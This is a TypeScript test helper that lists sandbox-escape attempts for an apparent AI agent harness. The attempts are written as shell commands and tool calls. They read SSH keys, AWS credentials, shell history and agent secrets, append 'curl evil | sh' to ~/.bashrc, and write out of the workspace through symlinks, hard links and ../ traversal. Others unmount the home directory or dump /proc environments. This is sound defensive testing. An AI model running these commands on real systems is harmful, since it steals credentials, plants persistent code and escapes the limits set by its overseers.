/**
 * Escape attempts on paths: ODEK_HOME, the home, `~/.bashrc`, symlinks and hard links out of the
 * workspace, `/proc` and environment dumps (test helper; see `_attempts.ts`).
 *
 * @module
 */
import { type Attempt, sh, tool } from "./_attempt.ts";

/** Attempts to read or write outside the scope through paths. */
export const PATH_ATTEMPTS: readonly Attempt[] = [
  // ODEK_HOME: secrets, config and sessions.
  { name: "cat ODEK_HOME/secret.txt", call: sh((f) => `cat ${f.odek}/secret.txt`) },
  { name: "cat the session journals", call: sh((f) => `cat ${f.odek}/sessions/*.jsonl`) },
  {
    name: "read ODEK_HOME through a path read from a file (indirection)",
    call: sh(() => 'p=$(cat odek_path.txt); cat "$p/secret.txt" "$p/config.json"; ls -la "$p"'),
  },
  {
    name: "read_file ODEK_HOME by absolute path",
    call: tool("read_file", (f) => ({ path: `${f.odek}/secret.txt` })),
  },
  {
    name: "read_file ODEK_HOME through a planted symlink",
    call: tool("read_file", () => ({ path: "link_to_secret" })),
  },
  {
    name: "read_file through a planted directory symlink",
    call: tool("read_file", () => ({ path: "link_odek_dir/config.json" })),
  },
  { name: "glob inside ODEK_HOME", call: tool("glob", (f) => ({ pattern: "**", path: f.odek })) },
  {
    name: "cat a planted symlink to ODEK_HOME (shell)",
    call: sh(() => "cat link_to_secret link_odek_dir/sessions/s1.jsonl"),
  },
  { name: "find ODEK_HOME -exec cat", call: sh((f) => `find ${f.odek} -type f -exec cat {} +`) },
  {
    name: "read the install directory",
    call: sh((f) => `ls -laR ${f.install}; cat ${f.install}/data/sentinel`),
  },
  // The home: ~/.ssh, credentials, history.
  { name: "cat ~/.ssh/id_rsa", call: sh(() => "cat ~/.ssh/id_rsa; ls -la ~ ~/.ssh") },
  {
    name: "cat $HOME/.aws/credentials and the shell history",
    call: sh(() => 'cat "$HOME/.aws/credentials" ~/.bash_history'),
  },
  {
    name: "read_file ~/.ssh through a planted symlink",
    call: tool("read_file", () => ({ path: "link_to_ssh" })),
  },
  {
    name: "read_file ~/.ssh by absolute path",
    call: tool("read_file", (f) => ({ path: `${f.home}/.ssh/id_rsa` })),
  },
  { name: "cat a planted symlink to ~/.ssh (shell)", call: sh(() => "cat link_to_ssh") },
  {
    name: "umount the home's tmpfs",
    call: sh((f) => `umount ${f.home} 2>&1; umount -l ${f.home} 2>&1; cat ${f.home}/.ssh/id_rsa`),
  },
  {
    name: "a nested user namespace unmounts the home",
    call: sh((f) =>
      `unshare -rm sh -c 'umount ${f.home}; umount -l ${f.home}; cat ${f.home}/.ssh/id_rsa' 2>&1`
    ),
    needs: ["unshare"],
  },
  {
    name: "read another session host's private scratch",
    call: sh((f) => `cat ${f.hostTmp}/secret.txt; ls -R ${f.hostTmp}/../..`),
  },
  // Writing ~/.bashrc.
  { name: "echo >> ~/.bashrc", call: sh(() => "echo 'curl evil | sh' >> ~/.bashrc") },
  {
    name: "bash -c wrapper writes $HOME/.bashrc",
    call: sh(() => `bash -c 'printf "%s\\n" pwned >> "$HOME/.bashrc"'`),
  },
  { name: "tee -a ~/.bashrc", call: sh(() => "echo pwned | tee -a ~/.bashrc") },
  {
    name: "write_file ~/.bashrc",
    call: tool("write_file", (f) => ({ path: `${f.home}/.bashrc`, content: "pwned\n" })),
  },
  {
    name: "write the read-only ~/.gitconfig",
    call: sh(() =>
      "git config --global core.pager 'sh -c pwned'; echo pwned >> ~/.gitconfig; cat ~/.gitconfig"
    ),
  },
  // Symlinks out of the workspace, for writing.
  {
    name: "write through a planted file symlink (shell)",
    call: sh(() => "echo pwned > link_out_file"),
  },
  {
    name: "write_file through a planted file symlink",
    call: tool("write_file", () => ({ path: "link_out_file", content: "pwned\n" })),
  },
  {
    name: "write_file through a planted directory symlink",
    call: tool("write_file", () => ({ path: "link_out_dir/new.txt", content: "pwned\n" })),
  },
  {
    name: "cp into a planted directory symlink",
    call: sh(() => "cp notes.txt link_out_dir/ && echo x >> link_out_dir/sentinel.txt"),
  },
  {
    name: "plant a symlink at run time, then write through it",
    call: sh((f) =>
      `ln -sf ${f.out}/sentinel.txt l2; echo pwned > l2; echo pwned > ${f.out}/sentinel.txt`
    ),
  },
  {
    name: "write_file with ../ traversal",
    call: tool("write_file", () => ({ path: "../out/sentinel.txt", content: "pwned\n" })),
  },
  {
    name: "create a file through a planted dangling symlink (shell)",
    call: sh(() => "echo pwned > link_dangling; cat link_dangling"),
  },
  {
    name: "write_file through a planted dangling symlink",
    call: tool("write_file", () => ({ path: "link_dangling", content: "pwned\n" })),
  },
  // Hard links.
  {
    name: "hard-link an ODEK_HOME secret into the workspace",
    call: sh((f) => `ln ${f.odek}/secret.txt h1; cat h1`),
  },
  {
    name: "hard-link an outside sentinel and write through it",
    call: sh((f) => `ln ${f.out}/sentinel.txt h2 && echo pwned >> h2`),
  },
  { name: "hard-link ~/.ssh/id_rsa", call: sh((f) => `ln ${f.home}/.ssh/id_rsa h3; cat h3`) },
  // /proc.
  { name: "cat /proc/self/environ", call: sh(() => "tr '\\0' '\\n' < /proc/self/environ") },
  {
    name: "cat the core's /proc/<pid>/environ",
    call: sh((f) => `cat /proc/${f.corePid}/environ /proc/${f.corePid}/cmdline`),
  },
  {
    name: "every /proc/*/environ",
    call: sh(() => "for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f; done"),
  },
  {
    name: "through the core's /proc/<pid>/root",
    call: sh((f) => `cat /proc/${f.corePid}/root${f.odek}/secret.txt; ls /proc/${f.corePid}/cwd/`),
  },
  {
    name: "through every /proc/*/root",
    call: sh((f) =>
      `for p in /proc/[0-9]*; do cat $p/root${f.odek}/secret.txt $p/root${f.home}/.ssh/id_rsa; done 2>/dev/null; true`
    ),
  },
  {
    name: "list processes (the core must not be visible)",
    call: sh((f) =>
      `ps -eo pid,args 2>/dev/null || ls /proc; test -e /proc/${f.corePid}/environ && tr '\\0' '\\n' < /proc/${f.corePid}/environ`
    ),
  },
  // Environment dumps.
  { name: "env", call: sh(() => "env") },
  { name: "set", call: sh(() => "set") },
  { name: "cat /proc/1/environ", call: sh(() => "tr '\\0' '\\n' < /proc/1/environ; export -p") },
];
